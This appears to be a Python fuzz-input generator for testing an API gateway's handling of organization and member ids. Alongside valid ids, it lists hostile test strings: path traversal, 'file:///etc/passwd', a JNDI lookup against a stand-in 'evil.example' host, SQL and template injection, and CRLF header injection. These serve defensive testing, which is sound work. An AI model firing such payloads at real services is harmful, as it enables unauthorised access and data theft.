"""Ids of organizations, members and the rest: those that are there, and those that nobody should send."""

import base64
import random
from collections.abc import Callable
from typing import Any

KNOWN = (
    "acme",
    "northwind",
    "megacorp",
    "losant:575ed6e87ae143cd83dc4aa8",
    "nks:2",
    "nks:3880",
    "locktera:org-123",
    "clickhouse:2b0f6d1e-9c4a-4b77-8e21-6f5d3c9a7b10",
)
_UPSTREAMS = ("losant", "nks", "locktera", "clickhouse", "LOSANT", "aws", "")
_TRAVERSAL = (
    "..",
    "../",
    "../../me",
    "..%2f..%2fme",
    "%2e%2e%2f",
    "..;/",
    "/",
    "//evil.example",
    "\\..\\",
    ".",
    "?a=b",
    "#x",
)
_FOREIGN = (
    "http://evil.example/",
    "file:///etc/passwd",
    "${jndi:ldap://evil.example}",
    "' OR 1=1 --",
    "{{7*7}}",
    "%00",
    "%0d%0aHost:%20evil.example",
    "nks:２",
    "nks:٣٨٨٠",
    "nks:0x2",
    "nks:+2",
    "nks:-1",
    "nks:2.0",
    "nks:1e9",
    "nks:00002",
    "nks: 2",
    "ａｃｍｅ",
    "ACME",
    "acme ",
    "acme\u0301",
    ":",
    "a:b:c",
    "",
    " ",
    "null",
    "*",
)
_CONTROL = (
    "\x00",
    "\r\n",
    "\r\nX-Injected: 1",
    "\x1b[31m",
    "\u2028",
    "\u202e",
    "\ufeff",
    "\x7f",
    "\ud800",
    "\U0010ffff",
)
_WRONG_TYPES: tuple[Any, ...] = (
    None,
    True,
    0,
    -1,
    2**31,
    2**63,
    10**40,
    1.5,
    1e308,
    [],
    ["acme"],
    {},
    {"id": "acme"},
    [[]],
)


def _of_an_upstream(numbers: random.Random, good: str) -> str:
    return f"{numbers.choice(_UPSTREAMS)}:{good.partition(':')[2] or good}"


def _traversing(numbers: random.Random, good: str) -> str:
    upstream = good.partition(":")[0] if ":" in good else numbers.choice(_UPSTREAMS)
    return f"{upstream}:{numbers.choice((good.partition(':')[2], ''))}{numbers.choice(_TRAVERSAL)}"


def _encoded(numbers: random.Random, good: str) -> str:
    at = numbers.randrange(len(good) or 1)
    return (
        good[:at] + "".join(f"%{octet:02x}" for octet in good[at : at + 1].encode("utf-8", "replace")) + good[at + 1 :]
    )


def _with_control(numbers: random.Random, good: str) -> str:
    at = numbers.randrange(len(good) + 1)
    return good[:at] + numbers.choice(_CONTROL) + good[at:]


def _huge(numbers: random.Random, good: str) -> str:
    return (
        good.partition(":")[0] + ":" + numbers.choice(("9", "a", "../", "é")) * numbers.choice((65, 300, 5_000, 60_000))
    )


def _cut(numbers: random.Random, good: str) -> str:
    return good[: numbers.randrange(len(good) or 1)]


def _remade(numbers: random.Random, good: str) -> str:
    """A global id with other insides, where it is one."""
    try:
        inside = bytearray(base64.urlsafe_b64decode(good + "=" * (-len(good) % 4)))
    except ValueError:
        inside = bytearray(good.encode("utf-8", "replace"))
    for _ in range(numbers.randint(1, 3)):
        inside[numbers.randrange(len(inside) or 1) : numbers.randrange(len(inside) + 1)] = numbers.choice(
            (b"", b"..", b"/", b"\x00", b"\xff", b":", b"[", b'"', b"9" * 400)
        )
    return base64.urlsafe_b64encode(bytes(inside)).decode().rstrip("=" if numbers.random() < 0.5 else "")


def _foreign(numbers: random.Random, _: str) -> str:
    return numbers.choice(_FOREIGN)


_WAYS: tuple[Callable[[random.Random, str], str], ...] = (
    _of_an_upstream,
    _traversing,
    _encoded,
    _with_control,
    _huge,
    _cut,
    _remade,
    _remade,
    _foreign,
)


class Ids:
    """Picks ids.

    Args:
        numbers: What it draws from.
        there: Ids that the gateway has just told.
    """

    def __init__(self, numbers: random.Random, there: list[str]) -> None:
        self._numbers = numbers
        self._there = (*KNOWN, *there)

    def good(self) -> str:
        """One that is there; each kind as often as another."""
        return self._numbers.choice(self._numbers.choice((KNOWN, self._there)))

    def hostile(self) -> str:
        """One that is not, most of the time."""
        return self._numbers.choice(_WAYS)(self._numbers, self.good())

    def text(self) -> str:
        """One of either."""
        return self.good() if self._numbers.random() < 0.6 else self.hostile()

    def anything(self) -> Any:
        """One of either, or something of another type."""
        return self._numbers.choice(_WRONG_TYPES) if self._numbers.random() < 0.2 else self.text()
